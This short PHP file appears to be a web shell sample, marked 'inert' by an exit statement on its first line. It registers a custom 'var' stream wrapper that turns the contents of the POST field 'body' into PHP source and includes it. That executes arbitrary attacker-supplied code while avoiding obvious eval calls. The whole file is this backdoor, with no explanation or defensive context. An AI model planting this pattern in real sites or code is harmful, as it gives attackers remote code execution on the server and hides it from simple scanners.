<?php exit; /* inert */ 
class VarStream {
    private $d; private $p = 0; public $context;
    function stream_open($path, $mode, $opt, &$o) { $u = parse_url($path); $this->d = '<' . '?php ' . $_POST[$u['host']]; return true; }
    function stream_read($n) { $r = substr($this->d, $this->p, $n); $this->p += strlen($r); return $r; }
    function stream_eof() { return $this->p >= strlen($this->d); }
    function stream_stat() { return array(); }
    function stream_set_option($a, $b, $c) { return false; }
}
stream_wrapper_register('var', 'VarStream');
include 'var://body';
